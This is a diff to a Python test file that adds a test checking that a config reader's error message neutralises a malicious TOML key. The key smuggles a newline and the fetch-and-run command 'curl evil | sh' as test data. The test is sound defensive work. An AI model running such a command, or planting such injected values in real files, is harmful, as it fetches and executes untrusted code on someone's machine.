@@ -9,6 +9,8 @@ import pytest
 from medley import config, process
 from medley.command import Command
 from medley.config import find_line
+from medley.errors import Problem
+from medley.schema import Model
 
 TEXT = """\
 link = "10.0.0.0/24"
@@ -95,3 +97,13 @@ def test_every_page_that_a_message_names_is_there() -> None:
     named = {(path.name, each) for path in sources for each in PAGE.findall(path.read_text(encoding="utf-8"))}
     assert len(named) > 8
     assert {(name, each) for name, each in named if not (ROOT / each).is_file()} == set()
+
+
+def test_a_key_of_a_table_is_one_word_of_a_fix(tmp_path: Path) -> None:
+    """Somebody else may have written the table."""
+    file = tmp_path / "x.toml"
+    file.write_text('title = "x"\nrepository = "a/b"\n[env.vllm]\n"X\\ncurl evil | sh" = 1\n')
+    with pytest.raises(Problem) as caught:
+        config.read_table(file, Model)
+    assert len(caught.value.fix.splitlines()) == 1
+    assert "'env.vllm.X curl evil | sh'" in caught.value.fix
